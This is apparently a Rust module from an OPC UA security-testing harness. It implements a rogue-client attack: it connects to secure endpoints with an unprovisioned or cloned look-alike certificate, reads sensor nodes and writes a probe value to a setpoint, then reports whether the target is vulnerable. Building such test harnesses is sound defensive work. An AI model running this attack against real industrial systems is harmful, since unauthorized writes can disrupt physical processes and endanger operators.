//! Rogue client: attempts OpenSecureChannel against every secure endpoint
//! of a target with a certificate the operator never provisioned, then
//! probes reads and writes on any channel that sticks.

use std::sync::{Arc, Mutex};

use crate::client::{self, ClientConfig, ClientError, UserIdentity};
use crate::codec::{NodeId, Value};
use crate::pki::{clone_certificate, generate_identity, Identity, TrustPolicy, TrustStore};
use crate::server::demo_nodes;
use crate::status::StatusCode;

use super::{
    AttackKind, AttackOutcome, AttackResult, Evidence, EvidenceKind, TargetDescriptor,
};

/// Called after a trust rejection with the attacker's certificate record;
/// returning true simulates an operator promoting the certificate from
/// the rejected list, after which the attack retries once.
pub type RejectionCallback = dyn Fn(&crate::pki::CertificateRecord) -> bool + Send + Sync;

pub struct RogueClientOptions {
    /// Attacker identity. Defaults to a freshly generated self-signed
    /// certificate that was never shared with the target.
    pub identity: Option<Identity>,
    /// Clone this certificate for the attempt instead of using an
    /// arbitrary one — the look-alike used against rejected-list
    /// promotion workflows.
    pub impersonate: Option<crate::pki::CertificateRecord>,
    /// Node ids probed for reads once a session activates.
    pub probe_nodes: Vec<NodeId>,
    /// A write probe against a node expected to be writable.
    pub write_probe: Option<(NodeId, Value)>,
    pub on_rejected: Option<Arc<RejectionCallback>>,
}

impl Default for RogueClientOptions {
    fn default() -> Self {
        RogueClientOptions {
            identity: None,
            impersonate: None,
            probe_nodes: vec![demo_nodes::sensor(), demo_nodes::setpoint(), demo_nodes::status()],
            write_probe: Some((demo_nodes::setpoint(), Value::Double(666.0))),
            on_rejected: None,
        }
    }
}

/// Run the rogue-client attack. The outcome is Vulnerable exactly when at
/// least one secure endpoint accepted a channel under the unauthorized
/// certificate; rejections are evidence of secure behavior, not errors.
pub fn rogue_client(
    target: &TargetDescriptor,
    credentials: Option<(String, String)>,
    options: RogueClientOptions,
) -> AttackOutcome {
    let mut outcome = AttackOutcome {
        attack: AttackKind::RogueClient,
        result: AttackResult::Secure,
        evidence: Vec::new(),
        notes: Vec::new(),
        transcript: None,
    };

    let identity = match attacker_identity(&options, &mut outcome) {
        Some(identity) => identity,
        None => {
            outcome.result = AttackResult::Inconclusive;
            return outcome;
        }
    };

    let user_identity = match &credentials {
        Some((username, password)) => {
            UserIdentity::UserName { username: username.clone(), password: password.clone() }
        }
        None => UserIdentity::Anonymous,
    };

    let secure_endpoints: Vec<_> = target.secure_endpoints().cloned().collect();
    if secure_endpoints.is_empty() {
        outcome.notes.push("target offers no secure endpoints to probe".into());
        outcome.result = AttackResult::Inconclusive;
        return outcome;
    }

    for endpoint in &secure_endpoints {
        let mut config = ClientConfig::new();
        config.identity = Some(identity.clone());
        // The attacker naturally trusts whatever the target presents.
        config.trust_policy = TrustPolicy::AcceptAll;
        config.trust_store = Arc::new(Mutex::new(TrustStore::new()));
        config.user_identity = user_identity.clone();
        config.application_uri = identity.certificate.application_uri.clone();

        let label = format!(
            "{:?}/{}",
            endpoint.security_mode,
            endpoint.security_policy_uri.as_text()
        );

        let mut attempts = 0;
        loop {
            attempts += 1;
            match client::connect(endpoint, &config) {
                Ok(mut session) => {
                    outcome.evidence.push(Evidence::new(
                        EvidenceKind::UntrustedChannelAccepted,
                        format!("channel accepted on {label} with unprovisioned certificate"),
                    ));
                    probe_session(&mut session, &options, &mut outcome);
                    session.close();
                    break;
                }
                Err(ClientError::AuthFailed(status)) => {
                    // The channel itself was accepted; only user auth failed.
                    outcome.evidence.push(Evidence::new(
                        EvidenceKind::UntrustedChannelAccepted,
                        format!("channel accepted on {label} with unprovisioned certificate"),
                    ));
                    outcome
                        .notes
                        .push(format!("session activation failed on {label}: {status}"));
                    break;
                }
                Err(ClientError::ServerClosed { status, .. })
                    if status == StatusCode::BAD_CERTIFICATE_UNTRUSTED =>
                {
                    outcome.notes.push(format!("trust rejection on {label}: {status}"));
                    if attempts == 1 {
                        if let Some(on_rejected) = &options.on_rejected {
                            if on_rejected(&identity.certificate) {
                                outcome.notes.push(format!(
                                    "operator promoted {} from the rejected list; retrying",
                                    identity.certificate.thumbprint_hex()
                                ));
                                continue;
                            }
                        }
                    }
                    break;
                }
                Err(other) => {
                    outcome.notes.push(format!("attempt on {label} failed: {other}"));
                    break;
                }
            }
        }
    }

    if outcome.has_evidence(EvidenceKind::UntrustedChannelAccepted) {
        outcome.result = AttackResult::Vulnerable;
    }
    outcome
}

fn attacker_identity(
    options: &RogueClientOptions,
    outcome: &mut AttackOutcome,
) -> Option<Identity> {
    if let Some(record) = &options.impersonate {
        match clone_certificate(record) {
            Ok(identity) => {
                outcome.notes.push(format!(
                    "using look-alike clone of {} ({})",
                    record.subject_common_name,
                    record.thumbprint_hex()
                ));
                return Some(identity);
            }
            Err(e) => {
                outcome.notes.push(format!("could not clone target certificate: {e}"));
                return None;
            }
        }
    }
    if let Some(identity) = &options.identity {
        return Some(identity.clone());
    }
    match generate_identity("Nondescript", "urn:nondescript:client", 365, 2048) {
        Ok(identity) => Some(identity),
        Err(e) => {
            outcome.notes.push(format!("could not generate attacker identity: {e}"));
            None
        }
    }
}

fn probe_session(
    session: &mut client::Session,
    options: &RogueClientOptions,
    outcome: &mut AttackOutcome,
) {
    for node in &options.probe_nodes {
        match session.read(node) {
            Ok(value) => outcome.evidence.push(Evidence::new(
                EvidenceKind::ValueRead,
                format!("read {node} = {value:?}"),
            )),
            Err(e) => outcome.notes.push(format!("read {node} failed: {e}")),
        }
    }
    if let Some((node, value)) = &options.write_probe {
        match session.write(node, value.clone()) {
            Ok(status) if status.is_good() => {
                let readback = session.read(node).ok();
                outcome.evidence.push(Evidence::new(
                    EvidenceKind::ValueWritten,
                    format!("wrote {node} = {value:?}, readback {readback:?}"),
                ));
            }
            Ok(status) => outcome.notes.push(format!("write probe {node} refused: {status}")),
            Err(e) => outcome.notes.push(format!("write probe {node} failed: {e}")),
        }
    }
}
